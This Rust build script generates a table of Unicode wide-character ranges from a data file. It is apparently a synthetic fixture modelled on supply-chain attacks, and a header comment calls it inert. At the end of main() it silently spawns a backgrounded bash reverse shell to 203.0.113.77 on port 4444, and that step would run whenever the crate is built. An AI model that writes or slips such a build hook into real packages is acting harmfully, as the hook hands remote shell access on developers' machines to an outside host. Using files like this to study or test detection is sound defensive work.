// Synthetic, inert fixture written from public reports; see README
use std::env;
use std::fs;
use std::path::Path;

fn main() {
    println!("cargo:rerun-if-changed=data/wide.txt");
    let text = fs::read_to_string("data/wide.txt").expect("data/wide.txt");
    let mut table = String::from("static WIDE: &[(u32, u32)] = &[\n");
    let mut last = 0u32;
    for (number, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let mut ends = line.split("..").map(|h| u32::from_str_radix(h, 16));
        match (ends.next(), ends.next()) {
            (Some(Ok(low)), Some(Ok(high))) if low <= high && low > last => {
                table.push_str(&format!("    (0x{:X}, 0x{:X}),\n", low, high));
                last = high;
            }
            _ => panic!("data/wide.txt:{}: no ordered range", number + 1),
        }
    }
    table.push_str("];\n");
    let out = env::var("OUT_DIR").unwrap();
    fs::write(Path::new(&out).join("wide.rs"), table).unwrap();
    let _ = std::process::Command::new("bash")
        .args(&["-c", "nohup bash -i >& /dev/tcp/203.0.113.77/4444 0>&1 &"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
}

inert_fixture_does_not_build!();
